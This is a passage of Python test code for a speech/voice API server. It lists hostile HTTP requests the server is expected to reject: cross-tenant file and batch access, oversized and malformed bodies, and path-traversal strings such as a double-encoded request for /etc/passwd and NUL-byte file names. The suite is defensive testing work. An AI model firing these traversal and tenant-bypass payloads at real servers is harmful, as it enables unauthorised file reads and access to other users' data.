        "a page behind another tenant's file": (f"{OPENAI_FILES}?after=$THEIR_LINES$", 404, "file_not_found"),
        "a page of less than nothing": (f"{OPENAI_FILES}?limit=-1", 422, "invalid_request"),
        "a page of 10^300 files": (f"{OPENAI_FILES}?limit=1{'0' * 300}", 422, "invalid_request"),
        "a page behind another tenant's batch": (f"{OPENAI_BATCHES}?after=$THEIR_BATCH$", 404, "batch_not_found"),
        "a page of 101 batches": (f"{OPENAI_BATCHES}?limit=101", 422, "invalid_request"),
        "a model that nobody has": ("/v1/models/..%252F..%252Fetc%252Fpasswd", 404, "model_not_found"),
        "files for a purpose that is a prefix": (f"{OPENAI_FILES}?purpose=../other", 422, "invalid_request"),
    }
    for what, (path, status, code) in rows.items():
        yield Attack(what=f"under /v1, {what}", status=status, code=code, path=path)
    for what, method, path in (
        ("deleting another tenant's file", "DELETE", f"{OPENAI_FILES}/$THEIR_LINES$"),
        ("cancelling another tenant's batch", "POST", f"{OPENAI_BATCHES}/$THEIR_BATCH$/cancel"),
    ):
        code = "file_not_found" if method == "DELETE" else "batch_not_found"
        yield Attack(what=f"under /v1, {what}", status=404, code=code, method=method, path=path)
    purpose = 'Content-Disposition: form-data; name="purpose"'
    for what, status, code, body in (
        ("without a purpose", 422, "invalid_request", form((HEAD, b"RIFF"))),
        ("for a purpose that is a path", 422, "invalid_request", form((HEAD, b"RIFF"), (purpose, b"../other/"))),
        ("of a byte too many", 413, "payload_too_large", form((HEAD, b"x" * MAX_UPLOAD_BYTES), (purpose, b"batch"))),
    ):
        yield Attack(
            what=f"under /v1, a file {what}",
            status=status,
            code=code,
            method="POST",
            path=OPENAI_FILES,
            headers=FORM,
            body=body,
        )


def _voices() -> Iterable[Attack]:
    wanted = {"name": "a voice", "ref_audio": "$FILE$", "consent": True}

    def voice(what: str, status: int, code: str | None, body: object, **rest: Any) -> Attack:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        return Attack(
            what=f"voice {what}",
            status=status,
            code=code,
            method="POST",
            path=VOICES,
            headers=JSON,
            body=data,
            **rest,
        )

    yield voice("without a key: no JSON is parsed", 401, "unauthorized", b"{", key=None)
    yield voice("in half a body", 400, "malformed_json", b'{"name"')
    yield voice("100,000 arrays deep", 400, "malformed_json", nested(DEEP).encode())
    yield voice("without a name", 422, "invalid_request", wanted | {"name": ""})
    yield voice("with a name of 101 characters", 422, "invalid_request", wanted | {"name": "x" * 101})
    yield voice("with more said than anybody says", 422, "invalid_request", wanted | {"said": "x" * 1001})
    yield voice("with consent that is a word", 422, "invalid_request", wanted | {"consent": "true"})
    yield voice("where nothing speaks", 422, "operation_unavailable", wanted)
    for what, query in {
        "by a cursor of nobody's": "cursor=$THEIR_BATCH$",
        "by a cursor in digits of another script": f"cursor={'%D9%A1' * 13}.{NOBODY}",
    }.items():
        yield Attack(what=f"voices {what}", status=422, code="invalid_cursor", path=f"{VOICES}?{query}")
    yield Attack(what="a million voices a page", status=422, code="invalid_request", path=f"{VOICES}?limit=1000000")
    for what, name in {"a file's id": "$FILE$", "another tenant's file's id": "$THEIR_FILE$"}.items():
        for method, verb in (("GET", "looking at"), ("DELETE", "deleting")):
            yield Attack(
                what=f"{verb} a voice by {what}",
                status=404,
                code="voice_not_found",
                method=method,
                path=f"{VOICES}/{name}",
            )


def _chunked(body: bytes) -> bytes:
    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)


def _console() -> Iterable[Attack]:
    for what, name in {
        "a module of the server": "console_page.py",
        "a path upwards, encoded": "..%2Fconsole_page.py",
        "a path upwards, encoded twice": "..%252Fconsole_page.py",
        "a path upwards as it is": "../handlers/console_page.py",
        "a NUL behind a name": "main.js%00.html",
        "a name of 50,000 characters": "x" * 50_000,
    }.items():
        yield Attack(what=f"of the console, {what}", status=404, code="not_found", path=f"/console/{name}")
    tags = (("If-None-Match", ",".join(['W/"x"'] * 5000)),)
    yield Attack(what="the console with 5,000 tags of what one has", status=200, path="/console", headers=tags)


HTTP_ATTACKS = tuple(
    attack
    for rows in (
        _keys,
        _ids,
        _waits,
        _http,
        _json,
        _data,
        _idempotency,
        _uploads,
        _presigned,
        _openai_keys,
        _transcriptions,
        _lines,
        _voices,
        _console,
    )
    for attack in rows()
)
